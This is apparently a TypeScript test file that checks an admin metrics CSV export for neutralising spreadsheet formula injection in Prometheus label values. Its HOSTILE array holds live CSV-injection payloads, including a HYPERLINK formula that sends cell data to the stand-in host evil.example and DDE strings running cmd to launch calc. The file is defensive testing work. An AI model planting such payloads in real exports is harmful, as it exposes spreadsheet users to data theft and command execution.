import { Gauge, Registry } from 'prom-client';
import type { PrometheusService } from '../bench/services';
import { startExportFixture, type ExportFixture } from '../api/export-fixture';
import type { TestApi } from '../api/harness';

/**
 * CSV injection through the metric exports. The attack: a label value (a client slug, a
 * currency) that a spreadsheet would run as a formula when the operator opens the export. Every
 * text cell starting with = + - @ tab or carriage return must come out with a leading ' (and
 * quoted); the value column stays a number, negative ones included.
 */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '-42',
];

let fixture: ExportFixture;
let prom: PrometheusService;
let api: TestApi;
const registry = new Registry();
const clientMrr = new Gauge({ name: 'ct_client_mrr', help: 'test', labelNames: ['client', 'currency'], registers: [registry] });

beforeAll(async () => {
  HOSTILE.forEach((client, i) => clientMrr.set({ client, currency: 'USD' }, 100 + i));
  clientMrr.set({ client: 'refund-co', currency: '=cmd' }, -50.25);
  clientMrr.set({ client: 'plain-co', currency: 'EUR' }, 12);
  fixture = await startExportFixture(registry, 'security-csv');
  ({ prom, api } = fixture);
  // Until Prometheus holds every series since at least 2 s ago: the export floors its window to
  // whole seconds, so the series must already be there a second before the test's `to`.
  const q = encodeURIComponent('count(ct_client_mrr)');
  for (let i = 0; i < 90; i++) {
    const at = Date.now() / 1000 - 2;
    const body = (await (await fetch(`${prom.url}/api/v1/query?query=${q}&time=${at}`)).json()) as {
      data: { result: { value: [number, string] }[] };
    };
    if (Number(body.data.result[0]?.value[1] ?? 0) === HOSTILE.length + 2) break;
    await new Promise((r) => setTimeout(r, 500));
  }
}, 90_000);

afterAll(async () => {
  await fixture?.close();
});

/** Parses CSV as a spreadsheet does (RFC 4180: quoted cells, doubled quotes, line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else cell += c;
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

it('neutralises every text cell a spreadsheet would run as a formula, and keeps numbers numbers', async () => {
  const to = new Date();
  const from = new Date(to.getTime() - 5_000);
  const res = await api.call(
    'GET',
    `/api/admin/exports/client_mrr?from=${encodeURIComponent(from.toISOString())}&to=${encodeURIComponent(to.toISOString())}&step=5s&format=csv`,
  );
  expect(res.status).toBe(200);
  const rows = parseCsv(res.text);
  expect(rows[0]).toEqual(['timestamp', 'client', 'currency', 'value']);
  const cells = rows.slice(1);
  // Every hostile label came through, as text with a leading ': what was sent, after the quote.
  for (const [i, client] of HOSTILE.entries()) {
    const row = cells.find((r) => r[1] === `'${client}`);
    expect([client, row]).toEqual([client, [expect.any(String), `'${client}`, 'USD', String(100 + i)]]);
  }
  // No cell of the file starts a formula, whatever its column.
  for (const cell of cells.flat()) expect([cell, /^[=+@\t\r]/.test(cell)]).toEqual([cell, false]);
  // A negative value is a number; a label that looks like one is text.
  expect(cells.find((r) => r[1] === 'refund-co')).toEqual([expect.any(String), 'refund-co', "'=cmd", '-50.25']);
  expect(cells.find((r) => r[1] === 'plain-co')).toEqual([expect.any(String), 'plain-co', 'EUR', '12']);
  expect(res.text).toContain(',-50.25\n');
  for (const cell of cells.map((r) => r[3]!)) expect(Number.isFinite(Number(cell))).toBe(true);
});
